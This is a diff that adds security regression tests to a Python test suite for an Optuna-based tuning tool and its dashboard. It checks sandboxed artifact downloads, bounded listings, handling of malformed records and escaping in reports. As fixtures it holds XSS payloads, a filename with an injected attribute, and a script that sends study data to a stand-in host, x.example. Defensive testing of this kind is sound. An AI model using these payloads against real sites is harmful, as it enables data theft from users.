@@ -58,6 +58,7 @@ from shared_trained import EnsembledStudy, EvaluatedStudy, LrPriorStudy, lr_prio
 from sqlalchemy.engine import make_url
 
 from kmnist_tune.contract.records import (
+    BUDGET_ATTR,
     ENSEMBLE_ATTR,
     MODEL_ATTR,
     PRIOR_ATTR,
@@ -1772,3 +1773,170 @@ def test_a_card_of_32_resnet50s_beside_a_resnet18s_weights_is_refused_before_any
     assert peak_mib < 2560, f"predict peaked at {peak_mib:.0f} MiB before refusing"
     line = error_line(subprocess.CompletedProcess(proc.args, proc.returncode, out.read_text(), err.read_text()))
     assert "weights.safetensors does not hold the weights of its card's network" in line and "32 resnet50 members" in line
+
+
+# -- issue 34: served artifacts, listings, malformed records, the report -------------------------
+
+
+def test_an_html_artifact_is_served_as_a_sandboxed_download_not_a_page_of_the_dashboard(
+    shared: Shared, dashboard: int, tmp_path: Path
+) -> None:
+    """An artifact whose recorded content type is text/html (any worker-role user can upload one or
+    write its record) must never open as a page of the dashboard's origin, where its script would read
+    every study: a download (attachment), never sniffed, under a sandboxing policy, whatever its record says."""
+    study = shared.create(tmp_path, "html-artifact")
+    storage = open_storage(shared.worker_url)
+    page = tmp_path / 'report" onload=x; .html'
+    page.write_text(
+        "<script>fetch('/api/studies').then(r => r.text()).then(t => navigator.sendBeacon('//x.example', t))</script>"
+    )
+    store = artifact_store(storage)
+    sid = storage.get_study_id_from_name("html-artifact")
+    study_aid = optuna.artifacts.upload_artifact(
+        artifact_store=store, file_path=str(page), study_or_trial=study, mimetype="text/html"
+    )
+    trial = study.ask()
+    trial_aid = optuna.artifacts.upload_artifact(
+        artifact_store=store, file_path=str(page), study_or_trial=trial, mimetype="text/html; charset=utf-7", encoding="gzip"
+    )
+    here = f"127.0.0.1:{dashboard}"
+    for path in (f"/artifacts/{sid}/{study_aid}", f"/artifacts/{sid}/{trial._trial_id}/{trial_aid}"):
+        for method in ("GET", "HEAD"):
+            r = ask(dashboard, path, here, method)
+            headers = [(k.lower(), v) for k, v in r.headers]
+            one = {k: [v for key, v in headers if key == k] for k in {k for k, _ in headers}}
+            assert r.status == 200 and (method == "HEAD" or r.body == page.read_bytes()), (path, r.status)
+            assert one["content-disposition"] == ['attachment; filename="report__onload_x__.html"'], one
+            assert one["x-content-type-options"] == ["nosniff"]
+            (csp,) = one["content-security-policy"]
+            directives = {d.split()[0]: d.split()[1:] for d in csp.split(";") if d.strip()}
+            assert "sandbox" in directives and directives["sandbox"] == [] and directives["default-src"] == ["'none'"], csp
+            assert "content-encodings" not in one and "content-encoding" not in one
+    # The dashboard's own pages: a policy without inline script, and no framing by another site.
+    r = ask(dashboard, f"/dashboard/studies/{sid}", here)
+    (csp,) = [v for k, v in r.headers if k.lower() == "content-security-policy"]
+    assert "frame-ancestors 'none'" in csp and "'unsafe-inline'" not in csp.split("script-src")[1].split(";")[0], csp
+    assert dict((k.lower(), v) for k, v in r.headers)["x-frame-options"] == "DENY"
+
+
+MiB = 1 << 20
+
+
+def test_a_huge_attribute_on_one_study_is_never_read_by_anyone_elses_listing(
+    shared: Shared, dashboard: int, tmp_path: Path
+) -> None:
+    """One 64 MiB attribute on the attacker's own study: Optuna's listing (`get_all_studies`, what `study
+    list` and optuna-dashboard's study list and study lookup used) reads every attribute of every study,
+    so every user's listing held it several times over. Listings read only what they show, each value
+    bounded; what they leave out is said in that study's row."""
+    from kmnist_tune.service.listing import BoundedListing
+    from kmnist_tune.service.studies import list_studies
+
+    hoard = shared.create(tmp_path, "hoard")
+    hoard.set_user_attr("junk", "x" * (64 * MiB))
+    hoard.set_user_attr(BUDGET_ATTR, {"n_trials": 2, "timeout": None, "pad": "y" * MiB})  # what a row shows, too long
+    try:
+        for listing in (lambda: list_studies(open_storage(shared.worker_url)), BoundedListing(shared.storage()).get_all_studies):
+            raised, peak = peak_of(listing)
+            assert raised is None and peak < 8 * MiB, (raised, f"{peak:,} bytes")
+        rows = {
+            line.split("\t")[0]: line for line in cli_here("study", "list", "--storage", shared.worker_url).stdout.splitlines()
+        }
+        assert "kmnist_tune.budget is 1,048," in rows["hoard"] and "more than a listing reads" in rows["hoard"], rows["hoard"]
+        assert rows["viewed"] == "viewed\t1 finished\tbest 0.5000"
+        # The dashboard: its study list, and a study's page (it finds the study in the same listing).
+        here = f"127.0.0.1:{dashboard}"
+        listed = ask(dashboard, "/api/studies", here)
+        assert listed.status == 200 and len(listed.body) < MiB
+        (shown,) = [s for s in json.loads(listed.body)["study_summaries"] if s["study_name"] == "hoard"]
+        assert {a["key"]: a["value"] for a in shown["user_attrs"]}["junk"].startswith("(not shown: it is 67,108,866 bytes")
+        viewed = ask(dashboard, f"/api/studies/{shared.viewed['study_id']}", here)
+        assert viewed.status == 200 and len(viewed.body) < MiB and json.loads(viewed.body)["name"] == "viewed"
+    finally:
+        optuna.delete_study(study_name="hoard", storage=shared.storage())
+
+
+# Records on a study as anyone who shares the database can write them: (attribute, value, whether `study
+# list` reads it). The test evaluation's trial holds the markup `report` once wrote into its page.
+MALFORMED = [
+    (BUDGET_ATTR, "x", True),
+    (BUDGET_ATTR, {"n_trials": "x", "timeout": None}, True),
+    (BUDGET_ATTR, {"n_trials": True}, True),
+    (STOP_ATTR, ["x"], False),
+    (STOP_ATTR, {"at": "now", "by": 7}, False),
+    (TEST_ATTR, {"trial": "<script>alert(1)</script>", "metric": "accuracy", "test_value": 0.5}, False),
+    (ENSEMBLE_ATTR, {"metric": "accuracy", "test_value": "high"}, False),
+    (SPEC_ATTR, {"name": "garbled", "parameters": "x"}, True),
+]
+
+
+def test_a_malformed_record_on_one_study_is_one_line_in_its_row_and_for_its_commands(shared: Shared, tmp_path: Path) -> None:
+    garbled = shared.create(tmp_path, "garbled")
+    shared.create(tmp_path, "fine")
+    spec = garbled.user_attrs[SPEC_ATTR]
+    url = shared.worker_url
+    try:
+        for attr, value, listed in MALFORMED:
+            garbled.set_user_attr(attr, value)
+            proc = cli_here("study", "list", "--storage", url)
+            rows = {line.split("\t")[0]: line for line in proc.stdout.splitlines()}
+            assert proc.returncode == 0 and not proc.stderr, proc.stderr
+            assert rows["fine"] == "fine\t0/2 finished\tbest -" and rows["viewed"] == "viewed\t1 finished\tbest 0.5000"
+            said = "spec stored in study 'garbled'" if attr == SPEC_ATTR else attr
+            assert (said in rows["garbled"]) == listed and "\n" not in rows["garbled"], (attr, rows["garbled"])
+            for args in (("study", "show", "garbled"), ("best", "--study", "garbled")):
+                line = error_line(cli_here(*args, "--storage", url, check=False))
+                assert said in line and "'garbled'" in line, line
+            assert "fine" in cli_here("study", "show", "fine", "--storage", url).stdout
+            garbled.set_user_attr(attr, spec if attr == SPEC_ATTR else None)
+        # `report` the same; and the commands that write a record set a malformed one right.
+        garbled.set_user_attr(BUDGET_ATTR, "x")
+        line = error_line(cli_here("report", "--study", "garbled", "--out", str(tmp_path / "r"), "--storage", url, check=False))
+        assert BUDGET_ATTR in line and "study extend garbled" in line
+        line = error_line(cli_here("worker", "--study", "garbled", "--gpus", "none", "--storage", url, check=False))
+        assert BUDGET_ATTR in line and "study 'garbled'" in line
+        assert "budget 5 trials" in cli_here("study", "extend", "garbled", "--n-trials", "5", "--storage", url).stdout
+        garbled.set_user_attr(STOP_ATTR, "x")
+        assert "resumed" in cli_here("study", "resume", "garbled", "--storage", url).stdout
+        assert "garbled\t0/5 finished\tbest -" in cli_here("study", "list", "--storage", url).stdout
+        # A trial's record: a finished trial's attributes cannot be set right, so it is shown as left out.
+        dist = {"lr": optuna.distributions.FloatDistribution(1e-3, 1e-2, log=True)}
+        bad = {"worker": "x", "halving_events": [{"from_bs": "<b>"}], "retry_of": "0"}
+        garbled.add_trial(create_trial(params={"lr": 5e-3}, distributions=dist, value=0.5, user_attrs=bad))
+        shown = cli_here("study", "show", "garbled", "--storage", url)
+        said = [line for line in shown.stdout.splitlines() if line.startswith("trial 0: its attribute")]
+        assert shown.returncode == 0 and len(said) == 1 and "left out" in said[0], shown.stdout
+        assert "best trial 0" in shown.stdout
+    finally:
+        for name in ("garbled", "fine"):
+            optuna.delete_study(study_name=name, storage=shared.storage())
+
+
+def test_the_report_escapes_everything_it_writes_into_its_page(shared: Shared, tmp_path: Path) -> None:
+    """`report` wrote the test evaluation's trial number and test size into index.html as they were
+    stored. Now a record of another shape is one line, and every value read from the study is escaped."""
+    study = shared.create(tmp_path, "reported")
+    url, out = shared.worker_url, tmp_path / "report"
+    script, img = "<script>alert(1)</script>", "<img src=x onerror=alert(1)>"
+    evaluation = {"trial": script, "metric": "accuracy", "test_value": 0.5, "valid_value": 0.4, "n_train": 10}
+    study.set_user_attr(TEST_ATTR, {**evaluation, "n_test": img, "params": {}, "device": "cpu", "at": "now"})
+    line = error_line(cli_here("report", "--study", "reported", "--out", str(out), "--storage", url, check=False))
+    assert TEST_ATTR in line and "'reported'" in line and not out.exists()
+    # Well-formed records whose strings are markup, a parameter value, and a trial record that is not.
+    study.set_user_attr(
+        TEST_ATTR, {**evaluation, "trial": 0, "metric": script, "n_test": 7, "params": {}, "device": img, "at": ""}
+    )
+    prior = {"key": script, "suggestions": {img: 0.01}, "suggestion": img, "centre": 0.01, "low": 1e-3, "high": 0.1}
+    study.set_user_attr(PRIOR_ATTR, {**prior, "width": 2.0, "computed_at": "", "seconds": 1.0, "host": img})
+    dist = {
+        "lr": optuna.distributions.FloatDistribution(1e-3, 1e-2, log=True),
+        "tag": optuna.distributions.CategoricalDistribution([img]),
+    }
+    study.add_trial(
+        create_trial(params={"lr": 5e-3, "tag": img}, distributions=dist, value=0.5, user_attrs={"halving_events": script})
+    )
+    cli_here("report", "--study", "reported", "--out", str(out), "--storage", url)
+    page = (out / "index.html").read_text()
+    assert "<script" not in page and "<img src=x" not in page, page
+    assert page.count("&lt;script&gt;") >= 2 and "&lt;img src=x onerror=alert(1)&gt;" in page, page
+    assert "trial 0: its attribute halving_events" in page and "on 7 images" in page
